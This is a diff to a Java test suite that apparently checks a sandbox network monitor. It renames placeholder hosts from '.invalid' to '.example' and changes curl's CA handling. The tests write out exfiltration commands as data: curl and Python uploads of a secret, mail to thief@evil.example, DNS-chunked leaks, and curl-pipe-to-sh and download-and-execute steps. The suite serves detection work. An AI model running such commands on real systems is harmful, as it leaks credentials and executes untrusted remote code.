@@ -24,10 +24,10 @@ import java.io.IOException;
 import java.net.Inet4Address;
 import java.net.NetworkInterface;
 import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
 import java.nio.file.Path;
 import java.util.Collections;
 import java.util.HexFormat;
-import java.util.Map;
 
 /** What real clients do to the boundary, and what it tells of them. */
 @Tag("chamber")
@@ -60,18 +60,18 @@ class BoundaryTest {
                         "20",
                         "-d",
                         "t=" + Inside.SECRET,
-                        "https://collector.invalid/up?x=1");
+                        "https://collector.example/up?x=1");
 
         assertThat(said).contains("\"ok\":true");
-        RequestSent sent = request("https://collector.invalid/up?x=1");
+        RequestSent sent = request("https://collector.example/up?x=1");
         assertThat(sent.method()).isEqualTo("POST");
         assertThat(sent.tls()).isTrue();
         assertThat(sent.body()).isEqualTo("t=" + Inside.SECRET);
-        assertThat(bait("http", "collector.invalid:443").encoding()).isEqualTo("plain");
-        inside.await(DnsAsked.class, d -> d.name().equals("collector.invalid"));
-        inside.await(FlowOpened.class, f -> f.name().equals("collector.invalid"));
+        assertThat(bait("http", "collector.example:443").encoding()).isEqualTo("plain");
+        inside.await(DnsAsked.class, d -> d.name().equals("collector.example"));
+        inside.await(FlowOpened.class, f -> f.name().equals("collector.example"));
         assertThat(
-                        inside.await(TlsOpened.class, t -> t.name().equals("collector.invalid"))
+                        inside.await(TlsOpened.class, t -> t.name().equals("collector.example"))
                                 .fingerprint())
                 .startsWith("t13d");
     }
@@ -105,11 +105,11 @@ class BoundaryTest {
                         + "d=gzip.compress(b'k="
                         + Inside.SECRET
                         + "')\n"
-                        + "u.urlopen(u.Request('https://py.invalid/z',data=d,"
+                        + "u.urlopen(u.Request('https://py.example/z',data=d,"
                         + "headers={'Content-Encoding':'gzip'})).read()");
 
-        assertThat(request("https://py.invalid/z").body()).isEqualTo("k=" + Inside.SECRET);
-        bait("http", "py.invalid:443");
+        assertThat(request("https://py.example/z").body()).isEqualTo("k=" + Inside.SECRET);
+        bait("http", "py.example:443");
     }
 
     @Test
@@ -117,9 +117,9 @@ class BoundaryTest {
         good(
                 "sh",
                 "-c",
-                "yes data | head -c 100000 | curl -sS -m 20 -T - http://odd.invalid:8099/f");
+                "yes data | head -c 100000 | curl -sS -m 20 -T - http://odd.example:8099/f");
 
-        RequestSent sent = request("http://odd.invalid:8099/f");
+        RequestSent sent = request("http://odd.example:8099/f");
         assertThat(sent.bodyBytes()).isEqualTo(100_000);
         assertThat(sent.body()).startsWith("data\ndata").hasSize(16 << 10);
     }
@@ -132,12 +132,12 @@ class BoundaryTest {
                 "-m",
                 "20",
                 "-x",
-                "http://proxy.invalid:3128",
-                "https://deep.invalid/p");
+                "http://proxy.example:3128",
+                "https://deep.example/p");
 
-        assertThat(request("https://deep.invalid/p").tls()).isTrue();
+        assertThat(request("https://deep.example/p").tls()).isTrue();
         assertThat(
-                        inside.await(RequestSent.class, r -> r.url().equals("deep.invalid:443"))
+                        inside.await(RequestSent.class, r -> r.url().equals("deep.example:443"))
                                 .method())
                 .isEqualTo("CONNECT");
     }
@@ -152,13 +152,13 @@ class BoundaryTest {
                 "--http2-prior-knowledge",
                 "-d",
                 "x=" + Inside.SECRET,
-                "http://two.invalid/a?b=c");
+                "http://two.example/a?b=c");
 
-        RequestSent sent = request("http://two.invalid/a?b=c");
+        RequestSent sent = request("http://two.example/a?b=c");
         assertThat(sent.protocol()).isEqualTo("HTTP/2");
         assertThat(sent.headers()).contains("user-agent: curl/");
         assertThat(sent.body()).isEqualTo("x=" + Inside.SECRET);
-        bait("http", "two.invalid:80");
+        bait("http", "two.example:80");
     }
 
     @Test
@@ -168,14 +168,14 @@ class BoundaryTest {
                 good(
                         "node",
                         "-e",
-                        "const c = require('http2').connect('https://only2.invalid');"
+                        "const c = require('http2').connect('https://only2.example');"
                                 + "const r = c.request({':path': '/h2', ':method': 'POST'});"
                                 + "r.on('response', h => console.log(h[':status']));"
                                 + "r.on('end', () => c.close()); r.resume(); r.end('hello')");
 
         assertThat(said).isEqualTo("200\n");
-        assertThat(request("https://only2.invalid/h2").body()).isEqualTo("hello");
-        assertThat(inside.await(TlsOpened.class, t -> t.name().equals("only2.invalid")).protocol())
+        assertThat(request("https://only2.example/h2").body()).isEqualTo("hello");
+        assertThat(inside.await(TlsOpened.class, t -> t.name().equals("only2.example")).protocol())
                 .isEqualTo("h2");
     }
 
@@ -186,8 +186,8 @@ class BoundaryTest {
                 "-c",
                 "import socket,os,ssl\n"
                         + "s=ssl.create_default_context().wrap_socket(socket.create_connection("
-                        + "('ws.invalid',443)),server_hostname='ws.invalid')\n"
-                        + "s.send(b'GET /chat HTTP/1.1\\r\\nHost: ws.invalid\\r\\n"
+                        + "('ws.example',443)),server_hostname='ws.example')\n"
+                        + "s.send(b'GET /chat HTTP/1.1\\r\\nHost: ws.example\\r\\n"
                         + "Upgrade: websocket\\r\\nConnection: Upgrade\\r\\n"
                         + "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\\r\\n\\r\\n')\n"
                         + "assert b's3pPLMBiTxaQ9kYGzzhZRbK+xOo=' in s.recv(1000)\n"
@@ -200,7 +200,7 @@ class BoundaryTest {
 
         assertThat(inside.await(PacketSent.class, p -> p.protocol().equals("websocket")).excerpt())
                 .isEqualTo(Inside.SECRET);
-        bait("websocket", "ws.invalid:443");
+        bait("websocket", "ws.example:443");
     }
 
     @Test
@@ -214,14 +214,14 @@ class BoundaryTest {
                         + "s.login('me','"
                         + Inside.SECRET
                         + "')\n"
-                        + "s.sendmail('me@example.com',['you@example.com','thief@evil.invalid'],"
+                        + "s.sendmail('me@example.com',['you@example.com','thief@evil.example'],"
                         + "'Subject: hi\\n\\nkey "
                         + Inside.SECRET
                         + "')\n"
                         + "s.quit()");
 
         MailSent mail = inside.await(MailSent.class, m -> m.from().equals("me@example.com"));
-        assertThat(mail.to()).containsExactly("you@example.com", "thief@evil.invalid");
+        assertThat(mail.to()).containsExactly("you@example.com", "thief@evil.example");
         assertThat(mail.body()).contains("Subject: hi");
         bait("smtp", "mail.example.com:587");
     }
@@ -260,10 +260,10 @@ class BoundaryTest {
     @Test
     void aSecretSplitOverNamesIsPutTogether() throws InterruptedException {
         for (int i = 0; i < HEX.length(); i += 10) {
-            inside.run("getent", "ahostsv4", HEX.substring(i, i + 10) + ".drip.invalid");
+            inside.run("getent", "ahostsv4", HEX.substring(i, i + 10) + ".drip.example");
         }
 
-        assertThat(bait("dns", "drip.invalid").encoding()).isEqualTo("hex");
+        assertThat(bait("dns", "drip.example").encoding()).isEqualTo("hex");
     }
 
     @Test
@@ -274,10 +274,10 @@ class BoundaryTest {
                     "-sS",
                     "-m",
                     "20",
-                    "http://slow.invalid/p?n=" + i + "&d=" + Inside.SECRET.substring(i, i + 5));
+                    "http://slow.example/p?n=" + i + "&d=" + Inside.SECRET.substring(i, i + 5));
         }
 
-        bait("http", "slow.invalid:80");
+        bait("http", "slow.example:80");
     }
 
     @Test
@@ -314,34 +314,40 @@ class BoundaryTest {
 
     @Test
     void anUnknownProgramIsAHarmlessOneWithATag() throws InterruptedException {
-        String said = good("sh", "-c", "curl -fsSL http://stage.invalid/install.sh | sh -x 2>&1");
+        String said = good("sh", "-c", "curl -fsSL http://stage.example/install.sh | sh -x 2>&1");
 
         StageServed stage =
                 inside.await(
-                        StageServed.class, s -> s.url().equals("http://stage.invalid/install.sh"));
+                        StageServed.class, s -> s.url().equals("http://stage.example/install.sh"));
         assertThat(said).contains("/usr/bin/env true " + stage.tag());
         assertThat(
                         good(
                                 "sh",
                                 "-c",
-                                "f=$(mktemp) && curl -fsS http://stage.invalid/x.elf > $f &&"
+                                "f=$(mktemp) && curl -fsS http://stage.example/x.elf > $f &&"
                                         + " chmod +x $f && $f; echo $?; rm $f"))
                 .isEqualTo("0\n");
     }
 
     @Test
-    void aClientThatPinsIsKnown() throws InterruptedException {
+    void aClientThatPinsIsKnown() throws InterruptedException, IOException {
+        // As it is outside, without the authority of this run.
+        Path own =
+                Files.copy(
+                        Path.of("/etc/ssl/certs/ca-certificates.crt"),
+                        inside.folder.resolve("pinned.pem"));
         Command.Result said =
                 inside.run(
-                        Map.of("CURL_CA_BUNDLE", "/etc/ssl/certs/ca-certificates.crt"),
                         "curl",
+                        "--cacert",
+                        own.toString(),
                         "-sS",
                         "-m",
                         "20",
-                        "https://pinned.invalid/");
+                        "https://pinned.example/");
 
         assertThat(said.good()).isFalse();
-        assertThat(inside.await(TlsFailed.class, t -> t.name().equals("pinned.invalid")).why())
+        assertThat(inside.await(TlsFailed.class, t -> t.name().equals("pinned.example")).why())
                 .startsWith("pinned:");
     }
 
